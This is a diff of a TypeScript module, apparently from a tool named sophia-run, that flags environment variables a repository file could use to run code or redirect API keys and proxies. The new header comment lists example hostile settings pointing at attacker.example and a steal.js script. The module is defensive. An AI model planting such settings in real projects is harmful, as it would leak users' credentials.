@@ -1,6 +1,12 @@
 /**
- * Variables by which a file of a repository would run code, or have the user's secrets sent elsewhere. Pure. Loaded only if a
- * name of a file suggests one.
+ * Finds the variables by which a file of a repository would run code, or would have the user's secrets sent elsewhere:
+ *
+ *     NODE_OPTIONS=--require=./steal.js       runs-code
+ *     HTTPS_PROXY=http://attacker.example     network
+ *     OPENAI_BASE_URL=http://attacker.example redirects-key
+ *
+ * The code is pure. `marks-of-files.ts` loads it only if a name in a file suggests such a variable. docs/threat-model.md has
+ * the rules for users.
  */
 import { declarationOf } from "../contract/check-contract.ts";
 import { looksSecret } from "../contract/looks-secret.ts";
@@ -12,10 +18,14 @@ import { decidesNetwork, mayDecideNetwork } from "../trust/network-variables.ts"
 import { FROM_FILES, isTrustedOrigin } from "../esc/settings/from-files.ts";
 import { ADMIN_TOKEN, WITHHELD_VARIABLES } from "../esc/settings/own-variables.ts";
 
-export interface Trust {
+/** The facts that decide how far a file is trusted. */
+export interface TrustContext {
+  /** Returns true for a file that was found by search. The user has named the others. */
   readonly isFound: (file: string) => boolean;
+  /** True if the user has named the contract (`--contract`). */
   readonly isContractNamed: boolean;
   readonly contract: Contract;
+  /** Returns true for a variable that the caller lets files set (`--allow`). */
   readonly isAllowed: (name: string) => boolean;
   readonly isDeclared: (name: string) => boolean;
   readonly keepEsc: boolean;
@@ -25,154 +35,221 @@ export interface Trust {
 export type Risk =
   /** It makes other programs run code. */
   | "runs-code"
-  /** It decides through whom programs connect, or whom they trust. */
+  /** It decides through which proxy programs connect, or which certificates they trust. */
   | "network"
   /** It sends a key of another source elsewhere. */
   | "redirects-key";
 
 export interface Risks {
+  /** The variables that the program does not get, with the origins of the values that are a risk. */
   readonly byName: ReadonlyMap<string, ReadonlyMap<Origin, Risk>>;
-  /** Variables that are passed on, which a nested sophia-run must not take for the caller's. */
+  /** The variables that the program gets, and that a nested sophia-run must not take for the caller's. */
   readonly marked: readonly string[];
 }
 
-/** The user's agent for SSH is reached by no client of http. */
-const NO_SECRETS: ReadonlySet<string> = new Set([FROM_FILES, ADMIN_TOKEN, "SSH_AUTH_SOCK"]);
+/**
+ * Secrets that no risky variable can send elsewhere. Neither sophia-run's mark nor its own token is passed on to be sent. HTTP
+ * clients do not reach the user's agent for SSH.
+ */
+const NEVER_SENT: ReadonlySet<string> = new Set([FROM_FILES, ADMIN_TOKEN, "SSH_AUTH_SOCK"]);
 
-/** @param layers highest precedence first, with the names of aliases */
-export function risksIn(layers: readonly Layer[], trust: Trust): Risks {
-  const { isAllowed, isDeclared } = trust;
-  const byName = new Map<string, Map<Origin, Risk>>();
-  const marked = new Set<string>();
+/**
+ * Finds the variables by which files would do harm, and those that need the mark for a nested sophia-run.
+ *
+ * @param layers the highest precedence is first; variables have the contract's names in place of aliases
+ */
+export function assessRisks(layers: readonly Layer[], context: TrustContext): Risks {
   const variables = layers.flatMap((layer) => layer.variables);
-  const holders = new Map<string, Variable>();
-  for (const variable of variables) {
-    if (variable.value !== "" && !holders.has(variable.name)) holders.set(variable.name, variable);
-  }
-  const secrets = once(() => [...holders.values()].filter((variable) => isSecret(variable, trust)));
-  // One for each source: a proxy has many spellings, and a file may have all of them beside as many secrets.
-  const secretOfEachSource = once(() => [
-    ...new Map(secrets().map((secret) => [sourceKey(secret.origin), secret])).values(),
-  ]);
-  let passesNetwork = false;
-  const keysByPrefix = once(() => groupedByPrefix([...holders.keys()]));
-
-  for (const variable of variables) {
-    const { name, value, origin, delivery } = variable;
-    if (isTrustedOrigin(origin)) continue;
-    const withhold = (risk: Risk): void => {
-      byName.set(name, (byName.get(name) ?? new Map<Origin, Risk>()).set(origin, risk));
-    };
-    const mark = (others: readonly string[]): void => {
-      if (isAllowed(name)) return;
-      marked.add(name);
-      for (const other of others) marked.add(other);
-    };
-    // The program gets the path of a private file, which is never one of the harmless values.
-    const given = delivery === "file" ? "./file" : value;
-    if (isOfFound(origin, trust) && runsCode(name, given)) {
-      if (!isDeclared(name)) withhold("runs-code");
-      continue;
-    }
-    // A contract that was found may use as an address only another name of the same address.
-    const isPair = trust.isContractNamed || origin.alias === undefined || isSameAddress(name, origin.alias);
-    if (isTrusted(origin, trust, isPair)) continue;
-    const isOther = (key: Variable | undefined): boolean =>
-      key !== undefined && !isOneSource(key.origin, origin, isPair);
-    if (mayDecideNetwork(name)) {
-      if (!decidesNetwork(name, given)) continue;
-      const endangered = secretOfEachSource();
-      if (endangered.length === 0 || endangered.some(isOther)) withhold("network");
-      else if (!isAllowed(name)) {
-        marked.add(name);
-        passesNetwork = true;
-      }
-    } else if (isKeyAddress(name)) {
-      const keys = keysSentTo(name);
-      mark(keys);
-      if (isHarmlessAddress(name, value)) continue;
-      const held = keys.flatMap((key) => holders.get(key) ?? []);
-      // Without a key here the client may have one in a file of its own.
-      if (held.length === 0 || held.some(isOther)) withhold("redirects-key");
-    } else {
-      const prefix = prefixByForm(name, value);
-      if (prefix === undefined) continue;
-      const keys = keysByPrefix().get(prefix) ?? [];
-      mark(keys);
-      if (!isDeclared(name) && keys.some((key) => isOther(holders.get(key)))) withhold("redirects-key");
-    }
-  }
-  if (passesNetwork) for (const { name } of secrets()) marked.add(name);
-  return { byName, marked: [...marked] };
+  const assessment = new RiskAssessment(variables, context);
+  for (const variable of variables) assessment.assess(variable);
+  return assessment.result();
 }
 
-/** Returns a text that is the same for all origins that `isOneSource` does not tell apart as those of keys. */
+/** The origin of a risky variable, and whether its name there is trusted to mean what it says. */
+interface RiskyOrigin {
+  readonly origin: Origin;
+  /** False if a contract that was found gives the variable of a source another meaning by an alias. */
+  readonly isNameTrusted: boolean;
+}
+
+/** Collects the risks of all variables: call `assess` for each, then `result` once. */
+class RiskAssessment {
+  readonly #byName = new Map<string, Map<Origin, Risk>>();
+  readonly #marked = new Set<string>();
+  readonly #context: TrustContext;
+  /** For each name the variable of the highest layer that sets it to a value which is not empty. */
+  readonly #winners = new Map<string, Variable>();
+  readonly #secrets = once(() =>
+    [...this.#winners.values()].filter((variable) => isSentSecret(variable, this.#context)),
+  );
+  /** One secret of each source is enough: a proxy has many spellings, and a file may set all of them beside many secrets. */
+  readonly #secretOfEachSource = once(() => [
+    ...new Map(this.#secrets().map((secret) => [sourceKey(secret.origin), secret])).values(),
+  ]);
+  readonly #keysByPrefix = once(() => groupByPrefix([...this.#winners.keys()]));
+  #passesNetworkVariable = false;
+
+  constructor(variables: readonly Variable[], context: TrustContext) {
+    this.#context = context;
+    for (const variable of variables) {
+      if (variable.value !== "" && !this.#winners.has(variable.name)) this.#winners.set(variable.name, variable);
+    }
+  }
+
+  result(): Risks {
+    // All of these secrets have the same source as the proxy or certificate that is passed on with them.
+    if (this.#passesNetworkVariable) for (const { name } of this.#secrets()) this.#marked.add(name);
+    return { byName: this.#byName, marked: [...this.#marked] };
+  }
+
+  assess(variable: Variable): void {
+    const { name, value, origin, delivery } = variable;
+    const { isContractNamed, isDeclared } = this.#context;
+    if (isTrustedOrigin(origin)) return;
+    // The program gets the path of a private file, which is never one of the harmless values.
+    const passedValue = delivery === "file" ? "./file" : value;
+    if (isOfFoundFile(origin, this.#context) && runsCode(name, passedValue)) {
+      if (!isDeclared(name)) this.#withhold(variable, "runs-code");
+      return;
+    }
+    // A contract that was found may use as an address only another name of the same address.
+    const isNameTrusted = isContractNamed || origin.alias === undefined || isSameAddress(name, origin.alias);
+    if (isTrusted(origin, this.#context, isNameTrusted)) return;
+    const risky = { origin, isNameTrusted };
+    if (mayDecideNetwork(name)) {
+      if (decidesNetwork(name, passedValue)) this.#assessNetworkVariable(variable, risky);
+    } else if (isKeyAddress(name)) {
+      this.#assessKeyAddress(variable, risky);
+    } else {
+      this.#assessAddressByForm(variable, risky);
+    }
+  }
+
+  /** A proxy or a certificate of a file is passed on only together with secrets of that file, and with no other secret. */
+  #assessNetworkVariable(variable: Variable, risky: RiskyOrigin): void {
+    const endangered = this.#secretOfEachSource();
+    if (endangered.length === 0 || endangered.some((secret) => !isOneSource(secret.origin, risky))) {
+      this.#withhold(variable, "network");
+    } else if (!this.#context.isAllowed(variable.name)) {
+      this.#marked.add(variable.name);
+      this.#passesNetworkVariable = true;
+    }
+  }
+
+  /** The address of a service in the tables (`OPENAI_BASE_URL`) is passed on only together with the keys of its file. */
+  #assessKeyAddress(variable: Variable, risky: RiskyOrigin): void {
+    const { name, value } = variable;
+    const keyNames = keysSentTo(name);
+    this.#mark(name, keyNames);
+    if (isHarmlessAddress(name, value)) return;
+    const keys = keyNames.flatMap((keyName) => this.#winners.get(keyName) ?? []);
+    // If no variable has the key, the client may have one in a file of its own.
+    if (keys.length === 0 || keys.some((key) => !isOneSource(key.origin, risky))) {
+      this.#withhold(variable, "redirects-key");
+    }
+  }
+
+  /** `ACME_BASE_URL` has the form of an address to which a client may send `ACME_KEY`. A declared one is passed on. */
+  #assessAddressByForm(variable: Variable, risky: RiskyOrigin): void {
+    const { name, value } = variable;
+    const prefix = prefixByForm(name, value);
+    if (prefix === undefined) return;
+    const keyNames = this.#keysByPrefix().get(prefix) ?? [];
+    this.#mark(name, keyNames);
+    if (this.#context.isDeclared(name)) return;
+    const keys = keyNames.flatMap((keyName) => this.#winners.get(keyName) ?? []);
+    if (keys.some((key) => !isOneSource(key.origin, risky))) this.#withhold(variable, "redirects-key");
+  }
+
+  #withhold({ name, origin }: Variable, risk: Risk): void {
+    this.#byName.set(name, (this.#byName.get(name) ?? new Map<Origin, Risk>()).set(origin, risk));
+  }
+
+  #mark(address: string, keyNames: readonly string[]): void {
+    if (this.#context.isAllowed(address)) return;
+    this.#marked.add(address);
+    for (const name of keyNames) this.#marked.add(name);
+  }
+}
+
+/** Returns a text that is the same for all origins of secrets between which `isOneSource` makes no difference. */
 function sourceKey(origin: Origin): string {
   const isOfFile = origin.source === "environment" && origin.fromFile === true;
   return `${origin.source} ${isOfFile} ${"file" in origin ? origin.file : ""}`;
 }
 
-function once<Value>(make: () => Value): () => Value {
-  let made: { readonly value: Value } | undefined;
-  return () => (made ??= { value: make() }).value;
+/** Returns a function that computes the value when it is first called, and then returns the same value. */
+function once<Value>(compute: () => Value): () => Value {
+  let computed: { readonly value: Value } | undefined;
+  return () => (computed ??= { value: compute() }).value;
 }
 
-/** Not by `grouped`, which is in another file of the bundle: a start with such a name would load both. */
-function groupedByPrefix(names: readonly string[]): ReadonlyMap<string, readonly string[]> {
-  const keys = new Map<string, string[]>();
+/**
+ * Groups the names of keys by the addresses to which clients may send them: `A_B_KEY` is in the groups `A` and `A_B`. The
+ * function `grouped` is not used, because it is in another file of the bundle: a start with such a name would load both.
+ */
+function groupByPrefix(names: readonly string[]): ReadonlyMap<string, readonly string[]> {
+  const namesByPrefix = new Map<string, string[]>();
   for (const name of names) {
     for (const prefix of prefixesOfKey(name)) {
-      const sharing = keys.get(prefix);
-      if (sharing === undefined) keys.set(prefix, [name]);
-      else sharing.push(name);
+      const group = namesByPrefix.get(prefix);
+      if (group === undefined) namesByPrefix.set(prefix, [name]);
+      else group.push(name);
     }
   }
-  return keys;
+  return namesByPrefix;
 }
 
-/** Returns true for a secret that the program may send: the contract decides, else ESC, else the name and the value. */
-function isSecret({ name, value, secret, origin }: Variable, { contract, keepEsc }: Trust): boolean {
-  if (NO_SECRETS.has(name) || mayDecideNetwork(name) || (!keepEsc && WITHHELD_VARIABLES.includes(name))) return false;
-  const isOfEsc = origin.source === "esc" && secret;
-  return isOfEsc || (declarationOf(contract, name)?.secret ?? looksSecret(name, value));
+/** Returns true for a secret that the program may send. ESC or the contract makes a secret; otherwise the name and value do. */
+function isSentSecret({ name, value, secret, origin }: Variable, { contract, keepEsc }: TrustContext): boolean {
+  const isWithheld = !keepEsc && WITHHELD_VARIABLES.includes(name);
+  if (NEVER_SENT.has(name) || mayDecideNetwork(name) || isWithheld) return false;
+  const isSecretOfEsc = origin.source === "esc" && secret;
+  return isSecretOfEsc || (declarationOf(contract, name)?.secret ?? looksSecret(name, value));
 }
 
-function isOfFound(origin: Origin, { isFound }: Trust): boolean {
+/** Returns true if a file that was found sets the variable, or has the credential that opened the ESC environment with it. */
+function isOfFoundFile(origin: Origin, { isFound }: TrustContext): boolean {
   return origin.source === "esc" ? origin.openedBy !== undefined : "file" in origin && isFound(origin.file);
 }
 
+/** Returns true if clients send the same keys to the addresses in both variables. */
 function isSameAddress(name: string, alias: string): boolean {
   return isKeyAddress(alias) && keysSentTo(alias).join() === keysSentTo(name).join();
 }
 
-function isTrusted(origin: Origin, { isFound, isContractNamed }: Trust, isPair: boolean): boolean {
+/** Returns true if the user or the caller has chosen the source, and the name there means what it says. */
+function isTrusted(origin: Origin, { isFound, isContractNamed }: TrustContext, isNameTrusted: boolean): boolean {
   switch (origin.source) {
     case "secrets":
-      return isPair;
+      return isNameTrusted;
     case "override":
     case "dotenv":
-      return isPair && !isFound(origin.file);
+      return isNameTrusted && !isFound(origin.file);
     case "contract":
       return isContractNamed;
     case "environment":
-      return isPair && origin.fromFile !== true;
+      return isNameTrusted && origin.fromFile !== true;
     case "esc":
-      return isPair && origin.openedBy === undefined;
+      return isNameTrusted && origin.openedBy === undefined;
     case "fake":
-      return isPair;
+      return isNameTrusted;
   }
 }
 
 /**
- * Returns true for two origins in one file, or in what its credential has opened. The reverse does not hold: a file that only
- * names the user's token does not know the keys in ESC. An outer sophia-run has compared the origins that it marked.
+ * Returns true if those who wrote the risky variable also know the key: both are in one file, both are in ESC that a file's
+ * credential opened, or that credential is in the file with the key.
+ *
+ * A key in ESC and an address in the file are two sources, because a file that only names the user's token does not know what
+ * that token opens. An outer sophia-run has already compared the origins of the variables that it marked.
  */
-function isOneSource(key: Origin, address: Origin, isPair: boolean): boolean {
-  if (key.source === "environment" && address.source === "environment") {
-    return key.fromFile === true && address.fromFile === true;
+function isOneSource(key: Origin, { origin: risky, isNameTrusted }: RiskyOrigin): boolean {
+  if (key.source === "environment" && risky.source === "environment") {
+    return key.fromFile === true && risky.fromFile === true;
   }
-  if (address.source === "esc" && address.openedBy !== undefined) {
-    return key.source === "esc" ? isPair : "file" in key && key.file === address.openedBy;
+  if (risky.source === "esc" && risky.openedBy !== undefined) {
+    return key.source === "esc" ? isNameTrusted : "file" in key && key.file === risky.openedBy;
   }
-  return "file" in key && "file" in address && key.file === address.file;
+  return "file" in key && "file" in risky && key.file === risky.file;
 }
